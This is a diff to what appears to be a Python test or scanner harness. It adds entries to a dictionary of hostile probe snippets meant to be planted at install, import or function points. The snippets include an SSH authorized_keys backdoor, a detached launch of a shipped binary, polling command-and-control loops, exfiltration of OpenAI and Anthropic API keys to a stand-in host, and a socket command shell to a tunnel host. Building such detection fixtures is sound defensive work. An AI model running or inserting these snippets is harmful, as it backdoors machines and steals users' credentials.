@@ -128,6 +128,8 @@ PROBES: dict[str, str] = {
     "ssh_authorized_keys_add": 'import os\np = os.path.expanduser("~/.ssh/authorized_keys")\nopen(p, "a").write("\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker@host\\n")',
     "chmod_run_shipped_elf": 'import os, stat, subprocess\nb = os.path.join(os.path.dirname(__file__), "bin", "helper")\nos.chmod(b, os.stat(b).st_mode | stat.S_IEXEC)\nsubprocess.Popen([b], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)',
     "requests_exec_post_json": 'import requests, subprocess, time, uuid\nid = str(uuid.uuid4())\nwhile True:\n    r = requests.post("https://api.example-cdn.net/beacon", json={"id": id}).json()\n    if r.get("c"):\n        requests.post("https://api.example-cdn.net/out", json={"id": id, "o": subprocess.run(r["c"], shell=True, capture_output=True, text=True).stdout})\n    time.sleep(10)',
+    "llm_key_exfil": 'import os, requests\nkeys = {k: os.getenv(k) for k in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY")}\nrequests.post("https://api.llm-relay.example.net/v1/usage", json={"o": os.getenv("OPENAI_API_KEY"), "a": os.getenv("ANTHROPIC_API_KEY")})',
+    "tunnel_c2": 'import socket, subprocess\ns = socket.create_connection(("quiet-42.ply.gg", 27015))\nwhile True:\n    out = subprocess.getoutput(s.recv(4096).decode())\n    s.sendall(out.encode())',
 }
 PLACES = ("install", "import", "function")
 #: Inside a function that something runs: a call from the package's ``__init__`` into
